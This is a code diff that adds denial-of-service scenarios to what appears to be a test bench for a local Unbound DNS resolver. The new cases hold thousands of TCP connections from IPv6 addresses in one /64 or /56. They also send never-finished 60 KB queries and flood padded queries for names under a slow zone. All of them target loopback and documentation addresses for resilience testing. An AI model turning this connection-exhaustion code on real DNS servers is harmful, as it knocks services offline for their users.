@@ -14,6 +14,11 @@ const VICTIMS: Queries = {
 const UNBOUND_PLACES = ['incoming-num-tcp: 1024', 'outgoing-range: 4096'];
 /** Between two looks at whether a connection was closed and is to be opened again, milliseconds. */
 const AGAIN_MS = 200;
+/** RFC 7830 section 3. */
+const EDNS_PADDING = 12;
+/** Others are in another network. */
+const IPV6_VICTIMS: Queries = { ...VICTIMS, clients: ['127.0.0.2', '2001:db8:ffff::2'] };
+const IPV6_ALLOWED = 'access: { allow: ["127.0.0.0/8", "2001:db8::/32"] }';
 
 /** Holds one connection from each address for as long as it can, opening it again whenever it is closed. */
 const hold =
@@ -24,7 +29,8 @@ const hold =
     const open = (): void => {
       for (const [index, localAddress] of addresses.entries()) {
         if (sockets[index]?.destroyed === false) continue;
-        const socket = connect({ host: '127.0.0.1', port, localAddress });
+        const host = localAddress.includes(':') ? '::1' : '127.0.0.1';
+        const socket = connect({ host, port, localAddress });
         socket.on('error', () => {});
         socket.on('connect', () => {
           count++;
@@ -53,8 +59,48 @@ const askAndSleep = (socket: Socket, index: number): void => {
   socket.write(Buffer.concat(messages));
 };
 
+const LONG_BYTES = 60_000;
+/** Of one client, over eight connections: less than it may hold. */
+const LONG_CONNECTIONS = 8;
+const LONG_EACH_SEC = 4;
+
+/** All but the end of a query of the greatest length. */
+const beginAndSleep = (socket: Socket): void => {
+  const unfinished = Buffer.alloc(2 + LONG_BYTES);
+  unfinished.writeUInt16BE(0xffff, 0);
+  socket.write(unfinished);
+};
+
+/** Asks, again and again, for new names below a slow zone, each in a query of 60 KB of padding. */
+const askAtLength = async (arena: Arena): Promise<Running> => {
+  const options = Buffer.alloc(LONG_BYTES);
+  options.writeUInt16BE(EDNS_PADDING, 0);
+  options.writeUInt16BE(LONG_BYTES - 4, 2);
+  const open: Socket[] = [];
+  let count = 0;
+  const held = await hold(times(LONG_CONNECTIONS, clientsOf(7, 8)), (socket) => {
+    socket.resume();
+    open.push(socket);
+  })(arena);
+  const timer = setInterval(() => {
+    for (const socket of open)
+      if (!socket.destroyed) {
+        const question = `n${count++}-${Math.floor(performance.now())}.delay-3000.example. A`;
+        socket.write(frame(buildQuery(question, { id: count & 0xffff, edns: { options } })));
+      }
+  }, 1000 / LONG_EACH_SEC);
+  return {
+    stop: async () => {
+      clearInterval(timer);
+      return `${count} queries over ${await held.stop()}`;
+    },
+  };
+};
+
 const times = <Item>(count: number, items: readonly Item[]): Item[] =>
   Array.from({ length: count }, () => items).flat();
+
+const hex = (count: number): string[] => Array.from({ length: count }, (_, index) => index.toString(16));
 
 /** Places taken by clients that get nothing, by one network, and memory taken by clients that do not read. */
 export const tcpPlaces: readonly Attack[] = [
@@ -84,6 +130,48 @@ export const tcpPlaces: readonly Attack[] = [
     unbound: UNBOUND_PLACES,
     victims: VICTIMS,
     start: hold([10, 11, 12, 13, 14, 15, 16, 17].flatMap((net) => clientsOf(net, 240))),
+  },
+  {
+    name: 'tcp-64',
+    title: 'TCP: 1,200 addresses of one /64 hold a connection each',
+    isIpv6: true,
+    cordon: [IPV6_ALLOWED],
+    unbound: UNBOUND_PLACES,
+    victims: IPV6_VICTIMS,
+    start: hold(hex(1_200).map((host) => `2001:db8:7::1:${host}`)),
+  },
+  {
+    name: 'tcp-56',
+    title: 'TCP: 256 networks /64 of one /56 hold 5 connections each',
+    isIpv6: true,
+    cordon: [IPV6_ALLOWED],
+    unbound: UNBOUND_PLACES,
+    victims: IPV6_VICTIMS,
+    start: hold(
+      times(
+        5,
+        hex(256).map((net) => `2001:db8:7:${net}::1`),
+      ),
+    ),
+  },
+  {
+    name: 'tcp-unfinished',
+    title: 'TCP: 960 connections of 4 networks, each with 60 KB of a query that does not end',
+    unbound: UNBOUND_PLACES,
+    victims: VICTIMS,
+    start: hold(
+      times(
+        4,
+        [10, 11, 12, 13].flatMap((net) => clientsOf(net, 60)),
+      ),
+      beginAndSleep,
+    ),
+  },
+  {
+    name: 'tcp-long',
+    title: 'TCP: 8 clients, 256 q/s of 60 KB each for new names below a zone that takes 3 s',
+    unbound: UNBOUND_PLACES,
+    start: askAtLength,
   },
   {
     name: 'tcp-unread',
